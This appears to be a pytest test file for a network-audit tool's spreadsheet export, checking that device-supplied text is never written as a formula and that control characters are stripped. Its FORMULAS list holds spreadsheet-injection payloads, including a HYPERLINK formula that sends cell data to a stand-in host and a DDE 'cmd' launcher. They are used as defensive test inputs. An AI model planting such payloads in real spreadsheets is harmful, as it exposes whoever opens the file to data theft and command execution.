"""Spreadsheets of findings: every finding is in them, and nothing that a device says becomes a formula."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, datetime
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lienthong.model.finding import AuditRun, Finding, Kind, Status
from lienthong.model.words import Target
from lienthong.report import sheet
from lienthong.report.hostile import steering

FORMULAS = (
    '=HYPERLINK("http://192.0.2.1/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1",
    "\r=1+1", "＝1+1",
)  # fmt: skip
FORBIDDEN = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def audit(*details: str, target: Target = Target.LIVE) -> AuditRun:
    now = datetime(2026, 11, 24, 1, 2, 3, tzinfo=UTC)
    found = tuple(
        Finding(
            control="NET-01", check="a.py::x", description=detail, site="loc-ninh", node="loc-ninh-sw",
            status=Status.FAIL, kind=Kind.READ, detail=detail, evidence=(detail, detail),
        )
        for detail in details
    )  # fmt: skip
    return AuditRun(
        target=target, sites=("loc-ninh",), drill=False, started=now, ended=now, commit="x", version="1",
        findings=found,
    )  # fmt: skip


def table(run: AuditRun) -> list[list[str]]:
    text = sheet.as_csv(run, run.findings, {})
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def book(run: AuditRun) -> tuple[Any, list[str]]:
    """The page as openpyxl reads it, and the parts of the file as they are."""
    raw = sheet.as_xlsx(run, run.findings, {})
    with zipfile.ZipFile(io.BytesIO(raw)) as package:
        parts = [package.read(name).decode("utf-8") for name in package.namelist()]
    return openpyxl.load_workbook(io.BytesIO(raw))["findings"], parts


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_of_a_device_is_a_text(text: str) -> None:
    run = audit(text)
    for cell in table(run)[1]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), cell
    page, parts = book(run)
    assert not [part for part in parts if "<f>" in part or "<f " in part]
    assert {cell.data_type for row in page.iter_rows(min_row=2) for cell in row if cell.value} == {"s"}


@settings(max_examples=60, deadline=None, derandomize=True)
@given(st.text(max_size=80))
def test_whatever_a_device_says_the_files_open_and_steer_nothing(text: str) -> None:
    run = audit(text)
    cells = table(run)[1]
    assert len(cells) == len(sheet.COLUMNS)
    assert not [char for cell in cells for char in cell if steering(char) and char not in "\n\t"]
    page, parts = book(run)
    assert page.max_row == 2
    assert not [part for part in parts if FORBIDDEN.search(part)]


def test_every_finding_has_its_line_and_a_lab_says_what_it_is() -> None:
    run = audit("one", "two", target=Target.LAB)
    assert table(run)[0] == [sheet.LAB]
    assert [line[6] for line in table(run)[2:]] == ["one", "two"]
    page, _ = book(run)
    assert page["A1"].value == sheet.LAB
    assert [page.cell(row, 7).value for row in (3, 4)] == ["one", "two"]
    assert page["A3"].value == "NET-01" and page["E3"].value == "Chưa đạt / fail"
    assert page.auto_filter.ref == "A2:J4"


def test_a_cell_that_is_too_long_for_excel_says_so() -> None:
    page, _ = book(audit("x" * 40_000))
    assert len(page["G2"].value) == 32_766 and page["G2"].value.endswith("…")
